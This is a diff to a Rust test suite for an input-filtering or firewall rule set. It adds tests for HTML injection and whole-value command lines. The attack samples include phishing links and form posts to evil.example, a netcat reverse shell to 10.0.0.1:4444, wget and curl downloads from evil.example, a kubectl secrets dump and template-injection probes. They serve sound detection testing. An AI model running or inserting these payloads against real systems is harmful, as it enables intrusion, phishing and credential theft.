@@ -197,7 +197,7 @@ fn markup_that_loads_or_relinks_and_sinks_passed_as_values() {
             "<svg><circle r=\"4\"><animate attributeName=\"opacity\" values=\"0;1\" dur=\"1s\"/></circle></svg>",
             "<p>The <code>&lt;set&gt;</code> element animates one attribute.</p>",
             "<img src=\"/uploads/2024/05/bobs-cat.jpg\" alt=\"Bob's cat\">",
-            "<a href=\"https://example.org/docs\">the docs</a> (alert) for new replies",
+            "Read <a href=\"https://example.org/docs\">the docs</a> (alert) for new replies",
             "Don't panic: the (prompt) field is optional, we'll fill it later",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?><feed/>",
             "We'll set an alert; you'll get an email, that's all",
@@ -403,9 +403,9 @@ fn url_attributes_with_a_split_scheme_or_a_dotted_hex_host() {
             "<a href=\"http://0xa9.0xfe.169.254/latest/\">x</a>",
         ],
         &[
-            "<a href=\"https://example.com/docs\">docs</a>",
-            "<a href=\"https://0xproject.com/\">0x</a>",
-            "<a href=\"https://0xabc.example.com/\">x</a>",
+            "<p>See <a href=\"https://example.com/docs\">docs</a></p>",
+            "<p>See <a href=\"https://0xproject.com/\">0x</a></p>",
+            "<p>See <a href=\"https://0xabc.example.com/\">x</a></p>",
             "see http://example.com:8080/a and call 0x1F",
         ],
         1,
@@ -470,6 +470,73 @@ fn php_variable_variables_with_blanks_and_windows_drive_listings() {
             "Total: $ {{price}}",
             "${HOME} is set by the login shell",
             "dir of photography",
+        ],
+        1,
+    );
+}
+
+/// HTML injection (rule 2013): a value whose markup is one element that
+/// links to, loads from or posts to another host — a probe or a planted
+/// link — or CSS loading a resource from another host. A lone link or
+/// image to another host is blocked even when an editor posted it: a
+/// field that accepts editor markup needs an exclusion of 2013 for that
+/// field. Site-relative links and images pass; page markup with structure
+/// (consent texts, analytics beacons describing the page) passes, and is
+/// blocked at paranoia 2 (rule 2014).
+#[test]
+fn html_injection_in_a_value() {
+    let attacks = [
+        "<a href=\"http://login.evil.example/\">Your session expired, sign in again</a>",
+        "\"><a href=//evil.example/>x</a>",
+        "<IMG SRC=\"http://evil.example/track.php?u=1\">",
+        "<img src=\"https://cdn.example/x.png\" alt=\"x\" width=\"100\">",
+        "<div style=\"background:url(https://evil.example/p.png) no-repeat\">banner</div>",
+        "<math><a xlink:href=\"//evil.example/\">click",
+        "<form action=\"https://evil.example/collect\" method=\"post\">",
+        "<video poster=//evil.example/p.png>",
+        "background:url(//evil.example/p.png)",
+        "*{background-image:url(//evil.example/p.png)}",
+    ];
+    let benign = [
+        "<p>By clicking below, you agree to the <a href=\"https://example.com/terms\">Terms</a> and <a href=\"https://example.com/privacy\">Privacy Policy</a>.</p>",
+        "<div><div class=\"tile\"><picture><source srcset=\"https://cdn.example/p.jpg\"></picture></div></div>",
+        "<b>bold</b> and <i>it</i>",
+        "<a href=\"mailto:bob@example.com\">mail</a>",
+        "query Q($c:Currency) { image { src: url(transform:{maxWidth:64}) } }",
+        "see https://example.com/a?u=url(1)",
+    ];
+    check(&attacks, &benign, 1);
+    check(&benign[..2], &[], 2);
+}
+
+/// A value that is, as a whole, one command line (rule 3032), for a
+/// parameter handed to a shell or exec as it is; and a value that is only
+/// template placeholders reading a member or doing arithmetic (rule 9005).
+/// Plain words after a command name (`ls foo bar`), search text with a
+/// minus, and a lone mail-merge field (`{{name}}`) pass.
+#[test]
+fn whole_command_lines_and_template_probes() {
+    check(
+        &[
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "wget http://evil.example/s.sh",
+            "curl -s -o /tmp/x http://evil.example/x",
+            "ansible all -m shell",
+            "kubectl get secrets --all-namespaces",
+            "/usr/bin/nc 10.0.0.1 4444",
+            "{{user.password}}",
+            "{0.__class__}",
+            "{7} * {7}",
+        ],
+        &[
+            "ls foo bar",
+            "del nuevo mundo s/n",
+            "jaguar -car",
+            "New York - Paris",
+            "Type -A blood",
+            "{{name}}",
+            "Hello {{ name }}, your order {{order}} shipped",
+            "a {b.c} d",
         ],
         1,
     );
